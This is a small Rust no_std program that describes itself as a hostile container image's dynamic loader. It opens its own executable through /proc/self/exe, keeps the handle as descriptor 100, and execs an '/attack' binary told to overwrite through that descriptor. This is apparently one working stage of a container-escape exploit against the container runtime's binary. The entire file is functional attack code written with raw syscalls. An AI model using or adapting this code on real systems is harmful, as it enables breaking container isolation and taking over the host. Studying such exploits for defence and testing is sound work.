// A hostile image's dynamic loader: when the kernel executes one of our programs inside the container, this runs in its
// place. Opens the file that it runs as, and lets the attack keep it as descriptor 100.
#![no_std]
#![no_main]

use core::arch::{asm, global_asm};

global_asm!(".globl _start", "_start:", "xor ebp, ebp", "and rsp, -16", "call loader_main", "ud2");

#[panic_handler]
fn panic(_: &core::panic::PanicInfo<'_>) -> ! {
    loop {}
}

unsafe fn call(number: usize, one: usize, two: usize, three: usize) -> isize {
    let result: isize;
    unsafe {
        asm!("syscall", inlateout("rax") number as isize => result, in("rdi") one, in("rsi") two, in("rdx") three,
            lateout("rcx") _, lateout("r11") _);
    }
    result
}

#[unsafe(no_mangle)]
unsafe extern "C" fn loader_main() -> ! {
    const OPEN: usize = 2;
    const DUP2: usize = 33;
    const EXECVE: usize = 59;
    const EXIT_GROUP: usize = 231;
    const O_PATH: usize = 0o10000000;
    unsafe {
        let own = call(OPEN, c"/proc/self/exe".as_ptr() as usize, O_PATH, 0);
        if own < 0 {
            call(EXIT_GROUP, 101, 0, 0);
        }
        call(DUP2, own as usize, 100, 0);
        let args = [c"/attack".as_ptr(), c"overwrite|100|/go".as_ptr(), core::ptr::null()];
        let env = [core::ptr::null::<core::ffi::c_char>()];
        call(EXECVE, args[0] as usize, args.as_ptr() as usize, env.as_ptr() as usize);
        call(EXIT_GROUP, 102, 0, 0);
    }
    loop {}
}
